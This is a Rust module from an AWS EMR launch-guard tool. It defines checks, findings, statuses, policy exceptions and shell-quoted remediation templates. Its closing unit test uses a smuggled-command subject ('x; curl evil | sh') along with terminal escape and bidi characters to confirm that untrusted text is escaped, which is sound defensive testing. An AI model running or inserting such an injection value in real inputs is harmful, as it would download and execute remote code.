//! A check, and its finding on one subject.

use schemars::JsonSchema;
use serde::{Serialize, Serializer};

use crate::{
    base::{
        aws_calls::Call,
        lookup::{Lookup, LookupError, LookupErrorKind},
        names::ClusterId,
        printable::{Printable, printable},
        text::shell_word,
    },
    checks::fix::{CommandContext, FixTemplate},
    settings::policy::Policy,
};

/// One named rule.
#[derive(Debug)]
pub struct Check {
    /// Its name, in kebab-case.
    pub name: &'static str,
    /// When it is evaluated.
    pub stage: Stage,
    /// Whether it can refuse a launch, unless the policy changes that.
    pub level: Level,
    /// What goes wrong without it.
    pub why: &'static str,
    /// The facts on which it depends.
    pub looks_at: &'static str,
    /// The AWS calls that give those facts. If one of them is denied or fails, the check is
    /// Unknown.
    pub asks: &'static [&'static Call],
    /// How to fix it. Commands are between backticks, without region and profile, which are added
    /// to all commands. `{subject}` is replaced by the finding's subject as a shell word.
    pub fix: &'static str,
    /// The source in AWS's documentation or the setup guide.
    pub source: &'static str,
}

/// When a check is evaluated.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Stage {
    /// Before the launch.
    PreFlight,
    /// On each cluster of the run, while it exists.
    Watch,
    /// After the run.
    Confirm,
}

/// Whether a check can refuse a launch.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Level {
    /// It must pass.
    Required,
    /// It is only reported.
    Advisory,
}

/// The result of a check on one subject.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Status {
    /// Facts show that the rule is met.
    Passed,
    /// Facts show that the rule is not met.
    Failed,
    /// The facts could not be established.
    Unknown,
    /// By the policy or the config, there is nothing to check.
    NotApplicable,
    /// It is Failed or Unknown, and an exception in the settings covers it.
    Excepted,
}

/// What one check found on one subject.
// The texts may contain untrusted parts. They are escaped here once, for all later output.
#[derive(Clone, Debug, Serialize, JsonSchema)]
#[expect(
    clippy::struct_excessive_bools,
    reason = "each is a fact of its own, and none implies another"
)]
pub struct Finding {
    /// The check.
    #[serde(serialize_with = "by_name")]
    #[schemars(with = "&str")]
    pub check: &'static Check,
    /// Whether it can refuse a launch, by the policy.
    pub level: Level,
    /// The subject: a bucket, a key, a cluster, ….
    pub subject: Printable,
    /// The result.
    pub status: Status,
    /// What was seen.
    #[serde(rename = "seen")]
    pub saw: Printable,
    /// What was expected.
    #[serde(rename = "expected")]
    pub wanted: Printable,
    /// The subject's position in the runner config, as `file:line:column`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub at: Option<Printable>,
    /// How to fix it, if it has not passed.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[serde(rename = "remediation")]
    pub fix: Option<Printable>,
    /// The reason of the exception, and its end.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[serde(rename = "exception")]
    pub excepted: Option<Printable>,
    /// The check that must be fixed first, if this one is Unknown only because of it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub waits_for: Option<&'static str>,
    /// Unknown only because the subject does not exist yet, or no longer. This neither proves the
    /// rule nor contradicts it.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub not_there: bool,
    /// Unknown because AWS does not show the value, or shows it in another form than it was sent.
    /// Another call gives no more, and nothing contradicts the rule.
    #[serde(skip)]
    pub hidden: bool,
    /// The running cluster that a launch would use, if the finding is about one: the alert of a
    /// refusal names it. Not recorded, since it is the subject there.
    #[serde(skip)]
    pub cluster: Option<ClusterId>,
    /// The template of `fix`, if it contains commands.
    #[serde(skip)]
    pub(crate) template: Option<FixTemplate>,
    /// The lines of `fix` that a shell can run.
    #[serde(skip)]
    pub(crate) commands: Vec<Printable>,
    /// Whether those lines are more than the commands in `fix`.
    #[serde(skip)]
    pub(crate) has_script: bool,
    /// The cause that this finding shares with others, if it is the one that names it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cause: Option<SharedCause>,
    /// The obstacle because of which it is Unknown.
    #[serde(skip)]
    pub obstacle: Option<LookupError>,
    /// Whether it waits for a finding that names their shared cause. Then it is only counted.
    #[serde(skip)]
    pub counted: bool,
}

/// A cause that several findings share: no credentials, a service that denies every call, ….
#[derive(Clone, Debug, PartialEq, Eq, Serialize, JsonSchema)]
pub struct SharedCause {
    /// Its name: `no-credentials`, `expired-token`, `kms-denied`, ….
    pub name: &'static str,
    /// How many other findings wait for it.
    pub blocks: usize,
    /// A short description.
    #[serde(skip)]
    pub what: Printable,
    /// How to fix it, one line each.
    #[serde(skip)]
    pub fixes: Vec<Printable>,
}

impl Finding {
    /// Replaces the fix. Region and profile are added to its commands later.
    pub(crate) fn with_fix(self, template: FixTemplate) -> Self {
        let fix = Some(template.fill(&CommandContext::default()).text);
        Self { fix, template: Some(template), ..self }
    }

    /// Replaces the fix by a text without commands, which may contain untrusted parts.
    pub(crate) fn with_plain_fix(self, fix: impl Into<Printable>) -> Self {
        Self { fix: Some(fix.into()), template: None, ..self }
    }

    /// Sets `{name}` in its fix to a single shell word.
    pub(crate) fn with_value(self, name: &'static str, value: &str) -> Self {
        match self.template.clone() {
            Some(template) => self.with_fix(template.word(name, value)),
            None => self,
        }
    }

    /// Adds region and profile to the commands of its fix.
    pub(crate) fn complete_fix(&mut self, context: &CommandContext) {
        if let (Some(fix), Some(template)) = (&mut self.fix, &self.template) {
            let filled = template.fill(context);
            *fix = filled.text;
            self.has_script = !filled.script.is_empty();
            self.commands = if self.has_script { filled.script } else { filled.commands };
        }
    }

    /// Whether it is Failed or Unknown.
    #[must_use]
    pub fn is_open(&self) -> bool {
        matches!(self.status, Status::Failed | Status::Unknown)
    }

    /// What was seen and expected, in a short text.
    #[must_use]
    pub fn in_brief(&self) -> Printable {
        printable!("{}: seen {}, expected {}", self.check.name, self.saw, self.wanted)
    }

    /// Short texts of the open ones of `findings`, joined. If some have failed, only these:
    /// findings that wait explain nothing then.
    pub(crate) fn open_in_brief<'a>(findings: impl IntoIterator<Item = &'a Self>) -> Printable {
        let open: Vec<&Self> = findings.into_iter().filter(|finding| finding.is_open()).collect();
        let failed = open.iter().any(|finding| finding.status == Status::Failed);
        let told = open.into_iter().filter(|finding| !failed || finding.status == Status::Failed);
        Printable::joined(&told.map(Self::in_brief).collect::<Vec<_>>(), "; ")
    }
}

#[expect(clippy::trivially_copy_pass_by_ref, reason = "serde passes a field by reference")]
fn by_name<S: Serializer>(check: &&'static Check, serializer: S) -> Result<S::Ok, S::Error> {
    serializer.serialize_str(check.name)
}

/// Marks the findings that an exception covers as Excepted. A finding that waits for an excepted
/// one stays Unknown, because its facts were not read.
pub(crate) fn apply_exceptions(findings: &mut [Finding], policy: &Policy) {
    for finding in findings.iter_mut().filter(|finding| finding.is_open()) {
        let covering = policy
            .exceptions
            .iter()
            .find(|exception| exception.covers(finding.check.name, &finding.subject));
        if let Some(exception) = covering {
            finding.status = Status::Excepted;
            finding.excepted =
                Some(format!("{} (until {})", exception.reason, exception.expires).into());
        }
    }
}

/// Gives each finding the level that the policy sets for its check. If the policy lists a check as
/// both, the stricter level applies.
pub(crate) fn apply_policy(findings: &mut [Finding], policy: &Policy) {
    let names =
        |list: &[String], finding: &Finding| list.iter().any(|name| name == finding.check.name);
    for finding in findings {
        if names(&policy.enforce, finding) {
            finding.level = Level::Required;
        } else if names(&policy.advise, finding) {
            finding.level = Level::Advisory;
        }
    }
}

/// The fix if AWS throttles a call for as long as the guard waits.
const THROTTLED: &str = "start fewer runs of this account and region in the same minute, or set a \
    longer `pre_flight_timeout`; AWS can raise the quota of the call";

/// The fix if an answer is empty or invalid.
const UNUSABLE: &str = "try again; if it stays so, ask the same by the AWS CLI, and look at what \
    answers in AWS's place (an endpoint of one's own, a proxy); where AWS itself answers so, \
    report it as a bug of emr-etl-guard";

/// The fix if no answer came.
const SILENT: &str = "try again; if it stays so, look at network, endpoints and credentials";

/// The fix if AWS gave no answer, or none that can be read: permissions are not at fault.
pub(crate) const fn fix_of_silence(kind: LookupErrorKind) -> &'static str {
    match kind {
        LookupErrorKind::Throttled => THROTTLED,
        LookupErrorKind::UnreadableAnswer => UNUSABLE,
        _ => SILENT,
    }
}

/// A check and its subject, before the finding is made.
pub(crate) struct CheckSubject {
    check: &'static Check,
    subject: Printable,
    wanted: Printable,
    at: Option<Printable>,
    cluster: Option<ClusterId>,
}

impl Check {
    /// The fix for `subject`. In commands and in sentences, a subject that is more than a plain
    /// word is quoted, so that it looks like a name and never like an action.
    pub(crate) fn fix_of(&self, subject: &Printable) -> FixTemplate {
        FixTemplate::new(self.fix).words("subject", printable!("{}", shell_word(subject)))
    }

    /// Starts a finding on `subject`; `wanted` is what is expected.
    pub(crate) fn on(
        &'static self,
        subject: impl Into<Printable>,
        wanted: impl Into<Printable>,
    ) -> CheckSubject {
        CheckSubject {
            check: self,
            subject: subject.into(),
            wanted: wanted.into(),
            at: None,
            cluster: None,
        }
    }
}

impl CheckSubject {
    pub(crate) fn at(mut self, at: Option<&str>) -> Self {
        self.at = at.map(Printable::from);
        self
    }

    /// Sets the cluster that is the subject.
    pub(crate) fn cluster(mut self, id: &ClusterId) -> Self {
        self.cluster = Some(id.clone());
        self
    }

    fn finding(self, status: Status, saw: Printable, fix: Option<Printable>) -> Finding {
        Finding {
            check: self.check,
            level: self.check.level,
            subject: self.subject,
            status,
            saw,
            wanted: self.wanted,
            at: self.at,
            fix,
            waits_for: None,
            not_there: false,
            hidden: false,
            excepted: None,
            cluster: self.cluster,
            template: None,
            commands: Vec::new(),
            has_script: false,
            cause: None,
            obstacle: None,
            counted: false,
        }
    }

    pub(crate) fn passed(self, saw: impl Into<Printable>) -> Finding {
        self.finding(Status::Passed, saw.into(), None)
    }

    pub(crate) fn not_applicable(self, why: impl Into<Printable>) -> Finding {
        self.finding(Status::NotApplicable, why.into(), None)
    }

    pub(crate) fn failed(self, saw: impl Into<Printable>) -> Finding {
        let fix = self.check.fix_of(&self.subject);
        self.finding(Status::Failed, saw.into(), None).with_fix(fix)
    }

    /// Passed or Failed, by `holds`.
    pub(crate) fn decided(self, holds: bool, saw: impl Into<Printable>) -> Finding {
        if holds { self.passed(saw) } else { self.failed(saw) }
    }

    pub(crate) fn unknown(self, saw: impl Into<Printable>, fix: impl Into<Printable>) -> Finding {
        self.finding(Status::Unknown, saw.into(), Some(fix.into()))
    }

    /// Unknown, with commands in its fix.
    pub(crate) fn unknown_with(self, saw: impl Into<Printable>, fix: FixTemplate) -> Finding {
        self.finding(Status::Unknown, saw.into(), None).with_fix(fix)
    }

    /// Unknown, because its subject does not exist yet, or no longer.
    pub(crate) fn not_there(self, saw: impl Into<Printable>) -> Finding {
        Finding { not_there: true, ..self.unknown(saw, "nothing, unless it stays so") }
    }

    /// Unknown, because AWS does not show it.
    pub(crate) fn hidden(self, saw: impl Into<Printable>, fix: impl Into<Printable>) -> Finding {
        Finding { hidden: true, ..self.unknown(saw, fix) }
    }

    pub(crate) fn denied(self, obstacle: &LookupError) -> Finding {
        // A cause that blocks all calls is not about this one permission.
        if obstacle.cause.is_some() {
            return self.unreachable(obstacle);
        }
        let saw = format!("access denied: {}", obstacle.message);
        let fix = format!("allow `{}` to the guard's credentials", obstacle.operation);
        Finding { obstacle: Some(obstacle.clone()), ..self.unknown(saw, fix) }
    }

    pub(crate) fn unreachable(self, obstacle: &LookupError) -> Finding {
        let LookupError { operation, message, .. } = obstacle;
        let silence = format!("no answer to {operation}: {message}");
        let fix = fix_of_silence(obstacle.kind);
        let saw = match obstacle.kind {
            LookupErrorKind::UnreadableAnswer => format!("{operation}: {message}"),
            _ => silence,
        };
        Finding { obstacle: Some(obstacle.clone()), ..self.unknown(saw, fix) }
    }

    /// Decides by a fact that `first` has judged already. If the fact was not found, this finding
    /// waits for `first`.
    pub(crate) fn after<T>(
        self,
        first: &'static Check,
        lookup: &Lookup<T>,
        decide: impl FnOnce(Self, &T) -> Finding,
    ) -> Finding {
        match lookup.found() {
            Some(fact) => decide(self, fact),
            None => self.waiting_for(first),
        }
    }

    /// Decides by a fact about a subject; `exists` tells whether the subject exists at all.
    pub(crate) fn by_existing<T>(
        self,
        exists: &'static Check,
        lookup: &Lookup<T>,
        decide: impl FnOnce(Self, &T) -> Finding,
    ) -> Finding {
        match lookup {
            Lookup::Absent => self.waiting_for(exists),
            lookup => self.by(lookup, "", decide),
        }
    }

    /// Unknown, because `first` must be fixed first.
    pub(crate) fn waiting_for(self, first: &'static Check) -> Finding {
        let finding =
            self.unknown(format!("waits for {}", first.name), format!("fix {} first", first.name));
        Finding { waits_for: Some(first.name), ..finding }
    }

    /// Decides by a fact that was found. Failed with `absent` if it does not exist; Unknown if the
    /// look-up failed.
    pub(crate) fn by<T>(
        self,
        lookup: &Lookup<T>,
        absent: &str,
        decide: impl FnOnce(Self, &T) -> Finding,
    ) -> Finding {
        match lookup {
            Lookup::Found(fact) => decide(self, fact),
            Lookup::Absent => self.failed(absent),
            Lookup::Denied(obstacle) => self.denied(obstacle),
            Lookup::Unreachable(obstacle) => self.unreachable(obstacle),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    static NAMED: Check = Check {
        name: "named",
        stage: Stage::PreFlight,
        level: Level::Required,
        why: "",
        looks_at: "",
        asks: &[],
        fix: "look at {subject}, or make it: `aws emr make --name {subject}`",
        source: "",
    };

    #[test]
    fn a_finding_shows_what_others_have_named_in_one_line_and_as_one_word_of_an_action() {
        let finding = NAMED.on("x; curl evil | sh\n", "a\u{202e}b").at(Some("c\r.yml:1:1"));
        let finding = finding.failed("\u{1b}[2J");
        assert_eq!(finding.subject, r"x; curl evil | sh\u{a}");
        assert_eq!(finding.at.as_deref(), Some(r"c\u{d}.yml:1:1"));
        assert_eq!(
            finding.fix.as_deref(),
            Some(
                r"look at 'x; curl evil | sh\u{a}', or make it: `aws emr make --name 'x; curl evil | sh\u{a}'`"
            )
        );
        assert_eq!(finding.in_brief(), r"named: seen \u{1b}[2J, expected a\u{202e}b");
        assert_eq!(
            NAMED.on("acme-sc", "").failed("").fix.as_deref(),
            Some("look at acme-sc, or make it: `aws emr make --name acme-sc`")
        );
    }
}
